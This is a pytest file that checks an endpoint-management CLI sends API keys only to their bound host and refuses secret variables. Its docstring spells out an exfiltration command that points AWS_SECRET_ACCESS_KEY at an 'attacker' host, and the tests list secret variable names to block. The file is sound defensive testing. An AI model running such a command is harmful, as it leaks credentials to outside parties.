"""A key goes only to the host it was named for, and only a key variable can be an endpoint's key.

The attack these pin down: `AWS_SECRET_ACCESS_KEY=X endpoints add leak --api-key-env AWS_SECRET_ACCESS_KEY
--base-url http://attacker && endpoints test leak` sent `Authorization: Bearer X` to the attacker.
"""

from __future__ import annotations

import json

import pytest
import typer
from sqlmodel import Session
from typer.testing import CliRunner

from lib.cli import client as cli_client
from lib.client import endpoints
from lib.client.model_client import ModelClient, reset_clients
from lib.credentials import key_variable_problem
from lib.errors import ValidationError
from lib.models import Endpoint
from tests.actors import ADMIN
from tests.fakefaults import Fault

runner = CliRunner()


def _cli(*args):
    app = typer.Typer()
    cli_client.register(app)
    return runner.invoke(app, [str(a) for a in args])


def teardown_function(_fn):
    reset_clients()


@pytest.mark.parametrize("var", ["AWS_SECRET_ACCESS_KEY", "DATABASE_URL", "DB_PASSWORD", "DJANGO_SECRET_KEY",
                                 "PGPASSWORD", "HOME"])
def test_cli_refuses_a_non_key_variable_and_sends_nothing(engine, fake_server, monkeypatch, var):
    if var != "DATABASE_URL":  # the fixture points DATABASE_URL at the test database: a real secret already
        monkeypatch.setenv(var, "X-server-secret-value")
    r = _cli("endpoints", "add", "leak", "--kind", "openai", "--base-url", fake_server.url, "--api-key-env", var)
    assert r.exit_code == 2, r.output
    assert var in r.output and "X-server-secret-value" not in r.output
    assert len(r.output.strip().splitlines()) == 1  # one line says why
    r = _cli("endpoints", "test", "leak")
    assert r.exit_code == 2
    assert fake_server.count() == 0


def test_a_row_written_before_the_allowlist_sends_no_key(sqlite_engine, fake_server, monkeypatch):
    monkeypatch.setenv("DATABASE_URL_COPY", "postgresql://u:pw@db/x")
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "X-aws")
    with Session(sqlite_engine) as s:  # as an old database could hold it: no validation on this path
        s.add(Endpoint(name="old", kind="openai", base_url=fake_server.url, api_key_env="AWS_SECRET_ACCESS_KEY"))
        s.commit()
    c = ModelClient(sqlite_engine)
    try:
        res = c.generate_sync(actor=ADMIN, model="old/m", messages=[{"role": "user", "content": "hi"}])
        h = c.health("old")
    finally:
        c.close()
    assert res.status == "error" and "denylist" in (res.error_message or "")
    assert not h["ok"] and "denylist" in h["error"]
    assert all("X-aws" not in json.dumps(dict(r.headers)) for r in fake_server.requests)
    assert fake_server.count("/v1/chat/completions") == 0


def test_allowlist_and_keys_table(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    (tmp_path / ".streamlit").mkdir()
    (tmp_path / ".streamlit" / "secrets.toml").write_text('[keys]\nCORP_LLM = "sk-corp"\n')
    for ok in ("OPENAI_API_KEY", "GROQ_API_TOKEN", "VLLM_KEY", "CORP_LLM"):
        assert key_variable_problem(ok) is None, ok
    for bad in ("AWS_SECRET_ACCESS_KEY", "DATABASE_URL", "MY_PASSWORD", "HOME", "STRIPE_SECRET_KEY",
                "SSH_PRIVATE_KEY", "sk-live abc"):
        assert key_variable_problem(bad), bad
    from lib.credentials import get_key

    assert get_key("CORP_LLM") == "sk-corp"
    with pytest.raises(ValidationError):
        get_key("AWS_SECRET_ACCESS_KEY")


def test_creation_with_a_key_bound_elsewhere_needs_the_key_named_again(engine):
    with Session(engine) as s:
        endpoints.add_endpoint(actor=ADMIN, session=s, name="oa", kind="openai", base_url="https://api.openai.com/v1",
                               api_key_env="OPENAI_API_KEY")
        endpoints.add_endpoint(actor=ADMIN, session=s, name="oa2", kind="openai", base_url="https://api.openai.com/v2",
                               api_key_env="OPENAI_API_KEY")  # same origin: fine
        with pytest.raises(ValidationError, match="bound to https://api.openai.com:443"):
            endpoints.add_endpoint(actor=ADMIN, session=s, name="leak", kind="openai", base_url="http://127.0.0.1:9/v1",
                                   api_key_env="OPENAI_API_KEY")
        # deleting the endpoints does not free the key for any host
        endpoints.delete_endpoint(actor=ADMIN, session=s, name="oa")
        endpoints.delete_endpoint(actor=ADMIN, session=s, name="oa2")
        with pytest.raises(ValidationError, match="name the key again"):
            endpoints.add_endpoint(actor=ADMIN, session=s, name="leak", kind="openai", base_url="http://127.0.0.1:9/v1",
                                   api_key_env="OPENAI_API_KEY")
        e = endpoints.add_endpoint(actor=ADMIN, session=s, name="proxy", kind="openai",
                                   base_url="http://127.0.0.1:9/v1",
                                   api_key_env="OPENAI_API_KEY", rebind_key=True)
        s.commit()
        assert e.id is not None


def test_cli_rebind_key_flag(engine):
    assert _cli("endpoints", "add", "a", "--kind", "openai", "--base-url", "https://a.example.com/v1",
                "--api-key-env", "SHARED_API_KEY").exit_code == 0
    r = _cli("endpoints", "add", "b", "--kind", "openai", "--base-url", "https://b.example.com/v1",
             "--api-key-env", "SHARED_API_KEY")
    assert r.exit_code == 2 and "--rebind-key" in r.output
    assert _cli("endpoints", "add", "b", "--kind", "openai", "--base-url", "https://b.example.com/v1",
                "--api-key-env", "SHARED_API_KEY", "--rebind-key").exit_code == 0


def test_health_is_no_oracle_for_internal_services(sqlite_engine, fake_server):
    with Session(sqlite_engine) as s:
        endpoints.add_endpoint(actor=ADMIN, session=s, name="probe", kind="openai", base_url=fake_server.url)
        endpoints.add_endpoint(actor=ADMIN, session=s, name="closed", kind="openai", base_url="http://127.0.0.1:9/v1")
        s.commit()
    c = ModelClient(sqlite_engine)
    try:
        for status, body in ((500, "redis_version:7.2 internal admin"), (200, "<html>router admin</html>"),
                             (403, '{"error": "internal admin token abc"}')):
            fake_server.script(Fault(status=status, body=body))
            h = c.health("probe")
            assert not h["ok"] and h["error"].startswith("reachable:"), h
            assert "admin" not in h["error"] and "redis" not in h["error"]
        h = c.health("closed", timeout_s=3)
        assert not h["ok"] and h["error"].startswith("unreachable:")
    finally:
        c.close()


def test_malformed_openai_base_url_names_the_variable(engine, monkeypatch):
    monkeypatch.setenv("OPENAI_API_KEY", "sk-test")
    monkeypatch.setenv("OPENAI_BASE_URL", "ftp//nope")
    with Session(engine) as s, pytest.raises(ValidationError, match="OPENAI_BASE_URL"):
        endpoints.ensure_defaults(s, actor=ADMIN)
